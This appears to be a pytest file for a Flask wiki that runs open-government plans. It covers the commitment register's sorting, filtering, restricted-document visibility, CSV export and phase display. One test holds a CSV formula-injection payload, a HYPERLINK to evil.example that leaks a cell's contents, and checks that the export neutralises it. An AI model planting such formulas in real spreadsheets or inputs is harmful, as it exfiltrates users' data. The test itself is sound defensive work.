"""A plan's pages without JavaScript: the commitment register, its CSV, and the phase shown on
every page of the plan (the board, records and template: test_plan_records.py)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

from click.testing import Result
from flask import Flask
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from tests.wiki.conftest import Browser
from tests.wiki.history_helpers import form_edit, ids, json_of, page, words
from wiki.documents.service import find_document
from wiki.extensions import db
from wiki.history import service as history
from wiki.storage.models import Revision

AsPerson = Callable[[str], Browser]
GOV, TREASURY, CSO, WATCH, REVIEWER, COORDINATOR = (
    "gov@example.org",
    "treasury@example.org",
    "cso@example.org",
    "watch@example.org",
    "reviewer@example.org",
    "coordinator@example.org",
)
PLAN = "open-gov-2026"
PLAN_TITLE = "Open government plan 2026"
TEXT = "# Open contracting\n\nThe department publishes every contract within 30 days.\n"
# Nine words of civil society's after the department's eleven: 55% / 45%.
CSO_WORDS = "\nCivil society groups review every published contract each quarter.\n"


def run(app: Flask, *args: str, input: str | None = None) -> Result:
    return app.test_cli_runner().invoke(args=list(args), input=input)


def make_plan(app: Flask, slug: str = PLAN, title: str = PLAN_TITLE) -> None:
    """A plan led by the Cabinet Office and Open Data Charity, in drafting."""
    made = run(
        app,
        "create-plan",
        slug,
        "--title",
        title,
        "--government-lead",
        "Cabinet Office",
        "--civil-society-lead",
        "Open Data Charity",
    )
    assert made.exit_code == 0, made.output


def make_doc(
    app: Flask, slug: str, org: str, *partners: str, kind: str = "commitment", **options: str
) -> None:
    """A document of the plan made with ``create-doc``: its text is revision 1."""
    args = ["create-doc", slug, "--kind", kind, "--org", org, "--plan", PLAN]
    for partner in partners:
        args += ["--partner", partner]
    for name, value in options.items():
        args += [f"--{name}", value]
    made = run(app, *args, input=TEXT)
    assert made.exit_code == 0, made.output


def move(app: Flask, phase: str) -> None:
    assert run(app, "plan-phase", PLAN, phase).exit_code == 0


def latest(person: Browser, slug: str) -> int:
    revision: int = json_of(person, f"/api/docs/{slug}")["revision"]
    return revision


def board_sign(person: Browser, slug: str, revision: int | None = None) -> TestResponse:
    """Press "Sign revision N" on the board (``revision``: what the form carries)."""
    number = latest(person, slug) if revision is None else revision
    board = f"/plans/{PLAN}/sign-off"
    return person.submit(board, {"revision": str(number)}, action=f"{board}/{slug}")


def table_rows(html: str) -> list[list[str]]:
    """Each row of the page's table body, as the cells read out."""
    body = re.search(r"<tbody>(.*?)</tbody>", html, re.DOTALL)
    if body is None:
        return []
    found = re.findall(r"<tr>(.*?)</tr>", body.group(1), re.DOTALL)
    return [[words(cell) for cell in re.findall(r"<td>(.*?)</td>", r, re.DOTALL)] for r in found]


def register(person: Browser, query: str = "") -> list[list[str]]:
    return table_rows(page(person, f"/plans/{PLAN}/commitments{query}"))


def titles(person: Browser, query: str = "") -> list[str]:
    """The titles in the register, in its order (the hints under a title left out)."""
    return [row[1].split(" Proposed by ")[0].split(" Late")[0] for row in register(person, query)]


def last_change(app: Flask, slug: str) -> str:
    """When the document's newest revision ended, as the register writes it."""
    with app.app_context():
        doc = find_document(slug)
        assert doc is not None
        history.revisions(doc)
        query = select(func.max(Revision.ended_at)).where(Revision.document_id == doc.id)
        return str(db.session.scalar(query).strftime("%Y-%m-%d %H:%M"))


def three_commitments(app: Flask, as_person: AsPerson) -> dict[str, Browser]:
    """Open contracting signed off with words of both sides; citizen budgets signed by its
    lead only; beneficial ownership, the Treasury's, unsigned."""
    make_plan(app)
    make_doc(app, "open-contracting", "Cabinet Office", "Open Data Charity")
    make_doc(app, "beneficial-ownership", "Treasury", "Transparency Watch")
    make_doc(app, "citizen-budgets", "Cabinet Office", "Open Data Charity", "Transparency Watch")
    people = {email: as_person(email) for email in (GOV, CSO, WATCH)}
    form_edit(people[CSO], "open-contracting", TEXT + CSO_WORDS)
    for email in (GOV, CSO):
        assert board_sign(people[email], "open-contracting").status_code == 302
    assert board_sign(people[GOV], "citizen-budgets").status_code == 302
    return people


# Slug -> the register's cells for it, but the last change.
LISTED = {
    "open-contracting": [
        "1",
        "Open contracting",
        "Cabinet Office",
        "Open Data Charity",
        "Signed off",
        "2 of 2",
        "55% / 45%",
    ],
    "beneficial-ownership": [
        "2",
        "Beneficial ownership",
        "Treasury",
        "Transparency Watch",
        "Proposed",
        "0 of 2",
        "100% / 0%",
    ],
    "citizen-budgets": [
        "3",
        "Citizen budgets",
        "Cabinet Office",
        "Open Data Charity; Transparency Watch",
        "Proposed",
        "1 of 3",
        "100% / 0%",
    ],
}


def test_the_register_lists_each_commitment_with_its_record_signatures_and_word_shares(
    app: Flask, as_person: AsPerson
) -> None:
    watch = three_commitments(app, as_person)[WATCH]
    expected = [[*cells, f"{last_change(app, slug)} UTC"] for slug, cells in LISTED.items()]
    assert register(watch) == expected


def test_the_register_sorts_by_title_and_marks_the_sorted_column(
    app: Flask, as_person: AsPerson
) -> None:
    watch = three_commitments(app, as_person)[WATCH]
    by_number = ["Open contracting", "Beneficial ownership", "Citizen budgets"]
    assert titles(watch) == by_number
    assert titles(watch, "?sort=title") == sorted(by_number)
    descending = page(watch, f"/plans/{PLAN}/commitments?sort=title&order=desc")
    assert [row[1] for row in table_rows(descending)] == sorted(by_number, reverse=True)
    sorted_headers = re.findall(r'<th scope="col" aria-sort="(\w+)">(.*?)</th>', descending)
    assert [(order, words(header)) for order, header in sorted_headers] == [
        ("descending", "Title, sort ascending ▼")
    ]
    default = page(watch, f"/plans/{PLAN}/commitments")
    sorted_headers = re.findall(r'<th scope="col" aria-sort="(\w+)">(.*?)</th>', default)
    assert [(order, words(header)) for order, header in sorted_headers] == [
        ("ascending", "No., sort descending ▲")
    ]


def test_the_register_filters_by_status_lead_and_partner(app: Flask, as_person: AsPerson) -> None:
    watch = three_commitments(app, as_person)[WATCH]
    org = ids(app)
    assert titles(watch, "?status=signed_off") == ["Open contracting"]
    assert titles(watch, "?status=proposed") == ["Beneficial ownership", "Citizen budgets"]
    assert titles(watch, "?status=withdrawn") == []
    assert titles(watch, f"?lead={org['Treasury']}") == ["Beneficial ownership"]
    partner = f"?partner={org['Transparency Watch']}"
    assert titles(watch, partner) == ["Beneficial ownership", "Citizen budgets"]
    both = f"{partner}&lead={org['Cabinet Office']}"
    assert titles(watch, both) == ["Citizen budgets"]
    assert "1 commitment matching the filter" in page(watch, f"/plans/{PLAN}/commitments{both}")


def test_a_late_commitment_awaiting_consent_is_absent_from_a_non_leads_register(
    app: Flask, as_person: AsPerson
) -> None:
    people = three_commitments(app, as_person)
    move(app, "cut-off")
    make_doc(app, "late-tenders", "Treasury", "Transparency Watch", title="Late tenders")
    for email in (GOV, CSO):
        (late,) = [row for row in register(people[email]) if "Late tenders" in row[1]]
        assert late[0] == "–" and "Late awaiting both leads' consent" in late[1]
    assert "Late tenders" in titles(as_person(TREASURY))  # its proposer
    for outsider in (people[WATCH], as_person(REVIEWER), as_person(COORDINATOR)):
        assert titles(outsider) == ["Open contracting", "Beneficial ownership", "Citizen budgets"]


def test_an_annex_ask_is_a_row_of_the_register_with_its_status_and_no_signatories(
    app: Flask, as_person: AsPerson
) -> None:
    make_plan(app)
    make_doc(app, "open-contracting", "Cabinet Office")
    make_doc(app, "open-parliament", "Open Data Charity", kind="annex", title="Open parliament")
    watch = as_person(WATCH)
    assert "Open parliament" in page(watch, f"/plans/{PLAN}")  # the plan's annex lists it
    assert titles(watch) == ["Open contracting", "Open parliament"]
    assert titles(watch, "?status=annex") == ["Open parliament"]
    rows = {row[1]: row for row in csv_rows(watch)[1:]}
    assert rows["Open parliament"][4] == "Annex ask"
    assert rows["Open parliament"][8] == "0"  # nobody signs an ask until it is a commitment


def csv_rows(person: Browser) -> list[list[str]]:
    """The register's CSV as a spreadsheet reads it, header first."""
    response = person.get(f"/plans/{PLAN}/commitments.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="{PLAN}-commitments.csv"'
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_the_csv_has_a_header_and_one_row_per_commitment_with_the_registers_values(
    app: Flask, as_person: AsPerson
) -> None:
    watch = three_commitments(app, as_person)[WATCH]
    header, *rows = csv_rows(watch)
    assert header == [
        "Number",
        "Title",
        "Lead",
        "Partners",
        "Status",
        "Late",
        "Consents",
        "Signed",
        "Signatories",
        "Government words %",
        "Civil-society words %",
        "Last change (UTC)",
        "Address",
    ]
    expected = []
    for slug, (number, title, lead, partners, status, signed, shares) in LISTED.items():
        counts = signed.split(" of ") + re.findall(r"\d+", shares)
        expected.append([number, title, lead, partners, status, "no", "", *counts])
        expected[-1] += [last_change(app, slug), f"http://localhost/{slug}"]
    assert rows == expected


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    app: Flask, as_person: AsPerson
) -> None:
    make_plan(app)
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open contracting")'
    make_doc(app, "open-contracting", "Cabinet Office", title=formula)
    make_doc(app, "mentions", "Treasury", title="@SUM(1+1)")
    _header, first, second = csv_rows(as_person(WATCH))
    assert first[1] == "'" + formula
    assert second[1] == "'@SUM(1+1)"


def test_a_restricted_commitment_is_in_the_csv_only_of_those_granted_it(
    app: Flask, as_person: AsPerson
) -> None:
    make_plan(app)
    make_doc(app, "open-contracting", "Cabinet Office")
    make_doc(app, "tax-data", "Treasury", "Open Data Charity", visibility="restricted")
    for email in (GOV, WATCH):  # the plan's government lead is not granted it either
        assert [row[1] for row in csv_rows(as_person(email))[1:]] == ["Open contracting"]
    granted = [row[1] for row in csv_rows(as_person(CSO))[1:]]
    assert granted == ["Open contracting", "Tax data"]
    assert [row[1] for row in csv_rows(as_person(TREASURY))[1:]] == granted


def test_every_page_of_the_plan_shows_its_phase_as_the_current_step(
    app: Flask, as_person: AsPerson
) -> None:
    make_plan(app)
    make_doc(app, "open-contracting", "Cabinet Office", "Open Data Charity")
    coordinator = as_person(COORDINATOR)
    moved = coordinator.submit(
        f"/plans/{PLAN}", {"phase": "consultation"}, action=f"/plans/{PLAN}/phase"
    )
    assert moved.status_code == 302 and moved.headers["Location"] == f"/plans/{PLAN}"
    pages = [f"/plans/{PLAN}", f"/plans/{PLAN}/commitments", f"/plans/{PLAN}/sign-off"]
    pages += ["/open-contracting", "/open-contracting/record"]
    watch = as_person(WATCH)
    for url in pages:
        html = page(watch, url)
        assert "Phase: <strong>Consultation</strong> (step 2 of 6)" in html, url
        current = re.findall(r'<li aria-current="step"[^>]*>(.*?)</li>', html)
        assert current == ["Consultation"], url
        assert '<span class="visually-hidden">Done: </span>Drafting' in html, url


def test_the_home_page_shows_the_newest_plan_first(app: Flask, as_person: AsPerson) -> None:
    make_plan(app)
    make_plan(app, "open-gov-2028", "Open government plan 2028")
    home = page(as_person(WATCH), "/")
    assert re.findall(r'<h1 id="current-plan">(.*?)</h1>', home) == ["Open government plan 2028"]
    assert 'aria-current="step"' in home
    others = home[home.index("Other plans") :]
    assert f'<a href="/plans/{PLAN}">{PLAN_TITLE}</a>' in others
